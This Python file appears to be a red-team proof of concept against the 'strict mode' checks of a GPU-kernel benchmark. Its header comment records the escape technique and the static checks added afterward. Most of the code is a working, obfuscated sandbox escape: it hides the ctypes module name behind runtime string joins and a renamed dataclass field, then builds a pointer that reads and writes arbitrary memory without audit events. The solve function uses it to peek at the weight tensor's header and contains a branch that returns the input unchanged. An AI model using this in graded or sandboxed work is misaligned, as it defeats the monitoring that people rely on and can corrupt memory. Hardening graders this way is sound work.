# Red team (2026-12-06, fourth session, round 19): raw memory in strict mode with torch, numpy and
# the standard library only. numpy's .ctypes helper read through dataclasses.replace, after the
# dataclass's field was renamed to "ctypes" (a plain .name store: no getattr in the source);
# ctypes' module from the helper's __getstate__ (as vars()), its names joined at run time; a
# POINTER(c_char) at a c_char's buffer, indexed at any offset: reads and writes of any byte, no
# audit event. This kernel only proves the primitive (it reads the weight tensor's header in
# every call and returns the honest answer: passed at 0.71x strict before the fix). Stopped
# statically: dataclasses' replace / asdict / astuple, __getstate__ on any value, str.join and
# chr folded into the names they spell.
import torch
import numpy as np
import cutlass  # noqa: F401
import dataclasses

_N = "".join(["c", "types"])
_U = "".join(["_c", "types"])


@dataclasses.dataclass(eq=False, repr=False)
class _P(np.ndarray):
    x: object

    def __new__(cls, **kw):
        return kw


dataclasses.fields(_P)[0].name = _N


def _reach():
    a = np.zeros(4).view(_P)
    got = dataclasses.replace(a)
    helper = list(got.values())[0]
    return helper.__getstate__()[_U]


_S = _reach().__getstate__()
_CH = _S["".join(["c_", "char"])]
_CELL = _CH(b"z")
_PTR = _S["".join(["POIN", "TER"])](_CH)(_CELL)  # points at _CELL's inline buffer
_BASE = id(_CELL) + 80  # CDataObject.b_value on 3.11


def _peek(addr, n):
    k = addr - _BASE
    return b"".join(_PTR[k + i] for i in range(n))


def _poke(addr, data):
    k = addr - _BASE
    for i in range(len(data)):
        _PTR[k + i] = data[i : i + 1]


def solve(hidden_states, residual, weight):
    head = _peek(id(weight), 16)  # raw read of the weight object's header: no audit event
    total = hidden_states.float() + residual.float()
    inv = torch.rsqrt(total.pow(2).mean(dim=-1, keepdim=True) + 1e-5)
    out = (total * inv * weight.float()).to(torch.bfloat16)
    if int.from_bytes(head[8:16], "little") == 0:
        return hidden_states
    return out
